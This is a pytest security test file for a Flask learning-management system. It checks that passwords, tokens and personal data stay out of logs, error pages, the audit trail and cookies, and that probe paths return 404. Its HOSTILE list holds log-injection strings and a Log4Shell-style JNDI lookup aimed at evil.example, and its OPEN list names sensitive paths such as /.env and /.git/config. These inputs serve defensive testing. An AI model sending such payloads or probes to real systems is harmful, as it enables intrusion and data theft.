"""Hole 25: what is written into logs, error pages and the trail, and what stands open beside the pages."""

import io
import json
import logging
import re
import sqlite3
from contextlib import closing, contextmanager

import pytest
from flask import request_finished
from sqlalchemy import insert

from lms.foundation import outbox
from lms.foundation.database import session
from lms.foundation.logs import JsonLines
from lms.people.models import Person, PersonIdentifier
from tests.looking import mails
from tests.offered import ROSTER
from tests.world import PASSWORD

CANARIES = {"email": "canary.mail@example.org", "password": "canary phrase of a person 77", "name": "Canarina", "run": "76086428", "answer": "canary-answer-51f0",
            "file": "canary-file-name.pdf", "search": "canary-search-88", "code": "CANARYC0DE7777777777777777"}
HOSTILE = ("\r\nforged line", "\n{\"level\": \"info\", \"message\": \"forged\"}", "\x1b[31mred", "\x9b31m", "\u2028forged", "\u2029forged", "\x85forged", "\x00",
           '","forged":"', "\\", "\x0b\x0cforged", "%s %(x)s {x}", "${jndi:ldap://evil.example/x}", "\u202eforged", "\t", "\x7f")


@contextmanager
def heard(level=logging.DEBUG):
    """All that anyone logs meanwhile, as our handler would write it; SQL itself is only said when it is asked for."""
    text = io.StringIO()
    handler = logging.StreamHandler(text)
    handler.setFormatter(JsonLines())
    names = ("", "lms", "werkzeug", "flask", "flask_wtf", "flask_login", "sqlalchemy.pool", "gunicorn.error")
    before = [(logging.getLogger(n), logging.getLogger(n).level, logging.getLogger(n).propagate) for n in names]
    for logger, _level, _up in before:
        logger.addHandler(handler)
        logger.setLevel(level if logger.name != "root" else logging.INFO)
        logger.propagate = False
    try:
        yield text
    finally:
        for logger, was, up in before:
            logger.removeHandler(handler)
            logger.setLevel(was)
            logger.propagate = up


def a_day(plain) -> list[str]:
    """What people send on a day, each secret in its place. Returns the words that may stand nowhere else."""
    ana, olga, coral, ivan, nobody = (plain.client(who) for who in ("ana", "olga", "coral", "ivan", "nobody"))
    c = CANARIES
    for email, password in ((c["email"], c["password"]), ("ana@example.org", c["password"]), ("ana@example.org", PASSWORD)):
        plain.send(plain.client(), "/ingresar", {"email": email, "password": password})
    plain.send(plain.client(), "/clave", {"email": "beto@example.org"})
    plain.send(plain.client(), "/clave", {"email": c["email"]})
    link = (re.findall(r"/enlace/([\w-]+)", " ".join(mails(plain.app))) or ["none-was-mailed"])[-1]
    nobody.get(f"/enlace/{link}")
    plain.send(nobody, f"/enlace/{link}", {"password": "x", "again": "y"})
    plain.send(ana, "/cuenta/clave", {"current": c["password"], "password": c["password"], "again": c["password"]})
    plain.send(ana, "/cuenta", {"given_names": c["name"], "surname1": c["name"], "language": "es"})
    plain.send(ana, "/cuenta/documentos", {"kind": "cl_run", "number": f"{c['run']}-5"})
    plain.send(ana, "/cuenta/nombre-certificado", {"name": f"{c['name']} Soto", "confirmed": "1"})
    raw = json.dumps({"saves": [{"key": "canary-key-0001", "question": "registro", "base": 0, "fields": [["r6.q", c["answer"]]]}]})
    ana.post("/cohortes/1/intentos/50/respuestas", data=raw, content_type="application/json", headers={"X-CSRF-Token": plain.token})
    plain.send(ana, "/cohortes/1/intentos/50", {"pagina": "2", "r6.q": c["answer"]})
    ana.post("/cohortes/1/modulos/G1/tarea", data={"csrf_token": plain.token, "texto": c["answer"], "archivos": (io.BytesIO(b"%PDF-1.7"), c["file"])})
    plain.send(ivan, "/cohortes/1/corregir/entregas/31", {f"c{i}": "1" for i in range(4)} | {"feedback": c["answer"]})
    for url in (f"/personas?q={c['search']}", f"/bitacora?persona={c['search']}", f"/cohortes/1/nomina?q={c['search']}"):
        olga.get(url)
    nobody.get(f"/verificar?folio=EGL-2027-000001-10&codigo={c['code']}")
    nobody.get(f"/v/EGL-2027-000001-10/{c['code']}")
    plain.send(olga, "/personas/nueva", {"email": c["email"], "given_names": c["name"], "surname1": "Vera", "kind": "cl_run", "number": f"{c['run']}-5"})
    plain.send(coral, "/cohortes/1/nomina/inscribir", {"email": f"x{c['email']}", "given_names": c["name"], "surname1": "Vera"})
    sent = coral.post("/cohortes/1/nomina/importar", data={"csrf_token": plain.token, "file": (
        io.BytesIO(ROSTER.replace("Rosa", c["name"]).replace("rosa@", "rosa.canary@").encode()), c["file"] + ".csv")})
    if sent.status_code == 303:
        coral.get(sent.location)
        plain.send(coral, "/cohortes/1/nomina/importar/confirmar", {"archivo": sent.location.partition("archivo=")[2]})
    outbox.work(plain.app)
    tokens = [plain.tokens[who] for who in ("ana", "olga")] + [link]
    return [*CANARIES.values(), *tokens, plain.token, "rosa.canary", "ana@example.org", "beto@example.org", PASSWORD]


def clean(text: str, secrets: list[str]) -> None:
    for line in text.splitlines():
        assert not [s for s in secrets if s in line], ([s for s in secrets if s in line], line[-1500:])


def test_no_secret_of_a_day_is_in_the_logs(plain):
    plain.app.config["PROPAGATE_EXCEPTIONS"] = False
    with heard() as text:
        secrets = a_day(plain)
    lines = [json.loads(line) for line in text.getvalue().splitlines()]
    assert sum(line["message"] == "request" for line in lines) > 20
    assert all(set(line) <= {"at", "level", "message", "method", "route", "status", "ms", "request_id", "job", "kind", "error"} for line in lines)
    clean(text.getvalue(), secrets)


def test_no_secret_is_in_the_logs_or_on_the_page_when_the_database_refuses_it(plain):
    """A disk that is full, a lock, a constraint: the statement that failed carries the very thing that was sent."""
    with closing(sqlite3.connect(plain.file)) as raw:
        for (table,) in raw.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite%'").fetchall():
            if table not in ("sign_in_failures", "one_time_links"):
                for verb in ("INSERT", "UPDATE"):
                    raw.execute(f"CREATE TRIGGER no_{verb}_{table} BEFORE {verb} ON {table} BEGIN SELECT RAISE(ABORT, 'refused'); END")
    plain.app.config["PROPAGATE_EXCEPTIONS"] = False
    pages: list[str] = []

    def note(_app, response):
        if response.status_code >= 500:
            pages.append(response.get_data(as_text=True))
    with heard() as text, request_finished.connected_to(note, plain.app):
        secrets = a_day(plain)
    assert text.getvalue().count('"message": "failed"') > 5 and len(pages) > 5
    clean(text.getvalue(), secrets)
    own = ("ana@example.org", CANARIES["name"])             # their owner is told them at the top of every page
    clean("\n".join(pages), [s for s in secrets if s not in (*own, plain.token)])


def test_no_secret_is_in_the_logs_when_postgresql_refuses_it(plain_postgres, monkeypatch):
    """PostgreSQL names the values that were there already: "Key (email)=(…) already exists"."""
    plain, number, address, name = plain_postgres, "125319092", "ana@example.org", "Canarina"       # Ana's own
    plain.app.config["PROPAGATE_EXCEPTIONS"] = False

    def twice():
        session().execute(insert(PersonIdentifier).values(person_id=2, kind="cl_run", country="CL", value=number, recorded_at=plain.world.now))

    def twin():
        session().execute(insert(Person).values(email=address, given_names=name, surname1="x", sort_key="x", search_key="x",
                                                created_at=plain.world.now))

    def wanting():
        """"Failing row contains (…)" names them all."""
        session().execute(insert(Person).values(email="otra@example.org", given_names=name, surname1=number, sort_key=address,
                                                search_key="x"))
    with heard() as text:
        for view, status in ((twice, 409), (twin, 409), (wanting, 500)):
            monkeypatch.setitem(plain.app.view_functions, "home.help", view)
            page = plain.client("ana").get("/ayuda", headers={"Accept": "application/json"})
            assert page.status_code == status
            clean(page.get_data(as_text=True), [number, name, "already exists"])
    assert "failed" in text.getvalue()
    clean(text.getvalue(), [number, address, name])


@pytest.mark.parametrize("part", HOSTILE)
def test_a_line_of_the_log_is_one_line_whatever_it_is_told(plain, part):
    """In the message, in what goes with it, in an error; and through a request in whatever a sender may write."""
    told = JsonLines()
    for record in (logging.LogRecord("lms", 20, "", 0, part, (), None), logging.LogRecord("lms", 20, "", 0, "x %s", (part,), None)):
        record.facts = {"error": part, part: part}
        line = told.format(record)
        assert len(line.splitlines()) == 1 and json.loads(line)["message"].endswith(part)
        assert not re.search(r"[\x00-\x1f\x80-\x9f\u2028\u2029\u202e]", line)
    try:
        raise ValueError(part)
    except ValueError as wrong:
        record = logging.LogRecord("lms", 40, "", 0, "failed", (), (type(wrong), wrong, wrong.__traceback__))
    assert len(told.format(record).splitlines()) == 1 and "test_holes_secrets" in told.format(record)
    safe = part.encode("unicode_escape").decode() if re.search(r"[\r\n\0]", part) else part
    header = re.sub(r"[^\x20-\x7e]", "", part) or "x"
    with heard() as text:
        browser = plain.client()
        browser.get(f"/ingresar/{safe}", query_string={part: part, "next": part}, headers={"User-Agent": header, "Referer": header, "X-Forwarded-For": header})
        plain.send(browser, "/ingresar", {"email": part, "password": part, part: part})
        browser.open("/ingresar", method=re.sub(r"[^A-Z]", "", part.upper()) or "GET")
    lines = text.getvalue().splitlines()
    assert len(lines) >= 3 and all(json.loads(line)["message"] for line in lines) and "forged" not in text.getvalue()


def test_an_error_of_our_own_says_where_and_not_what(plain, monkeypatch):
    """The words of an error often hold what it could not read: "invalid literal for int(): '12.531.909-2'"."""
    plain.app.config["PROPAGATE_EXCEPTIONS"] = False
    typed = "-".join(("12.531.909", "2"))
    monkeypatch.setitem(plain.app.view_functions, "home.help", lambda: str(int(typed)))
    with heard() as text:
        assert plain.client("ana").get("/ayuda").status_code == 500
    assert "ValueError" in text.getvalue() and "test_holes_secrets" in text.getvalue() and typed not in text.getvalue()


def test_the_trail_holds_no_answer_no_password_and_no_document(plain):
    """Names and addresses may stand in it, where they were changed; what a person knows or wrote may not."""
    secrets = a_day(plain)
    trail = json.dumps(plain.tables()["audit_lines"], ensure_ascii=False)
    for secret in (CANARIES["password"], CANARIES["run"], CANARIES["answer"], CANARIES["search"], CANARIES["code"], PASSWORD, *secrets[len(CANARIES):-4]):
        assert secret not in trail, secret


def test_a_password_is_kept_nowhere_but_as_its_hash(plain):
    plain.send(plain.client("ana"), "/cuenta/clave", {"current": PASSWORD, "password": CANARIES["password"], "again": CANARIES["password"]})
    everything = repr(plain.tables()) + plain.file.read_bytes().decode("latin-1")
    assert CANARIES["password"] not in everything and PASSWORD not in everything
    hashes = {p["id"]: p["password_hash"] for p in plain.tables()["people"]}
    assert all(h.startswith("$argon2id$") for h in hashes.values() if h)


def test_a_letter_that_left_is_forgotten_by_the_outbox(plain):
    plain.send(plain.client(), "/clave", {"email": "ana@example.org"})
    token = re.search(r"/enlace/([\w-]+)", mails(plain.app)[-1])[1]
    outbox.work(plain.app)
    assert token not in repr(plain.tables())


def test_a_cookie_holds_no_word_about_its_owner(plain):
    browser = plain.client()
    plain.send(browser, "/ingresar", {"email": "ana@example.org", "password": PASSWORD})
    held = plain.app.session_interface.get_signing_serializer(plain.app).loads(browser.get_cookie("lms").value)
    assert set(held) <= {"_user_id", "_fresh", "_id", "csrf_token", "_permanent"} and not re.search("ana|Pérez|example", json.dumps(held, ensure_ascii=False))


OPEN = ("/console", "/debug", "/debug/default/view", "/metrics", "/server-status", "/status", "/admin", "/admin/", "/actuator/env", "/swagger.json", "/openapi.json",
        "/graphql", "/.git/config", "/.git/HEAD", "/.env", "/.htaccess", "/.well-known/security.txt", "/config", "/config.py", "/wsgi.py", "/lms/__init__.py",
        "/pyproject.toml", "/requirements.txt", "/instance/secret", "/secret", "/lms.sqlite", "/instance/lms.sqlite", "/mail/000001.eml", "/files/", "/templates/", "/static/",
        "/static/app.js", "/s/", "/s/app.js", "/s/app.js.map", "/s/app.css.map", "/backup.zip", "/dump.sql", "/phpinfo.php", "/wp-login.php", "/trace", "/heapdump",
        "/_debug_toolbar/", "/__debug__/", "/favicon.ico.map")


@pytest.mark.parametrize("who", ["nobody", "olga"])
def test_nothing_stands_open_beside_the_pages(plain, who):
    browser = plain.client(who)
    for url in OPEN:
        assert browser.get(url).status_code == 404, url
    page = browser.get("/?__debugger__=yes&cmd=resource&f=debugger.js&s=x").get_data(as_text=True)
    assert "debugger" not in page.lower() and not plain.app.debug
    for path in (plain.folder / "static").glob("*.js"):
        assert "sourceMappingURL" not in path.read_text(), path.name
    assert {type(told) for told in json.loads(browser.get("/health").data).values()} == {bool}
